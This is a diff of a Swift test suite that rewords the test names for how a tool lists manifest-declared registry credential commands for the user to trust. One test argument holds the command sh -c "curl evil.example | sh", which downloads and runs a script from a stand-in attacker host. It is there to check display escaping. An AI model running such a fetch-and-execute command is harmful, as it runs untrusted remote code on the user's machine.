@@ -5,7 +5,7 @@ import Testing
 
 @testable import BerthCore
 
-@Suite("The commands that a person is to trust", .scheduled)
+@Suite("The commands that the user trusts", .scheduled)
 struct ManifestCommandTests {
     private func commands(
         _ files: [String: String], environment: [String: String] = [:]
@@ -22,7 +22,7 @@ struct ManifestCommandTests {
         ManifestCommand(text: text, place: FileLocation(file: "berth.yaml", line: line, column: column), hosts: hosts)
     }
 
-    @Test("are each place's once, with all registries that it is for, and none for what runs none")
+    @Test("are each place's once, with all its registries, and none for places without a command")
     func places() throws {
         let found = try commands([
             "berth.yaml": """
@@ -44,13 +44,13 @@ struct ManifestCommandTests {
         #expect(
             found == [
                 command("vault kv get -field=token secret/a", 6, 32, "a.example.com", "b.example.com"),
-                // What has a slash is run from the manifest's folder, wherever docker is.
+                // A path with a slash runs from the manifest's directory, wherever docker is.
                 command("/home/me/work/token.sh c", 13, 16, "c.example.com"),
             ])
         #expect(try commands(["berth.yaml": "version: 1\nregistries: [{host: public.ecr.aws}]"]) == [])
     }
 
-    @Test("show variables by their names, set or not: what they hold may be a secret")
+    @Test("show variables by their names, set or not: their values may be secret")
     func variables() throws {
         let files = [
             "berth.yaml": """
@@ -68,7 +68,7 @@ struct ManifestCommandTests {
                 == [command(text, 5, 25, "a.example.com")])
     }
 
-    @Test("are those of included files as well, each with the file that it stands in")
+    @Test("include those of included files, each with its file")
     func includes() throws {
         let found = try commands([
             "berth.yaml": "version: 1\ninclude: [team/more.yaml]\n",
@@ -87,7 +87,7 @@ struct ManifestCommandTests {
     }
 
     @Test(
-        "are on one line each, on which every word is told from the next and nothing hides",
+        "are on one line each, with words that cannot be confused or hidden",
         arguments: [
             (["sh", "-c", "curl evil.example | sh"], #"sh -c "curl evil.example | sh""#),
             (["a", ""], #"a """#),
@@ -104,7 +104,7 @@ struct ManifestCommandTests {
         #expect(CommandSourceText.line(of: words) == line)
     }
 
-    @Test("are never cut: what is at the end counts as much")
+    @Test("are never cut: the end matters as much")
     func long() {
         let word = String(repeating: "a", count: 5000)
         #expect(CommandSourceText.line(of: ["x", word, "rm"]) == "x \(word) rm")
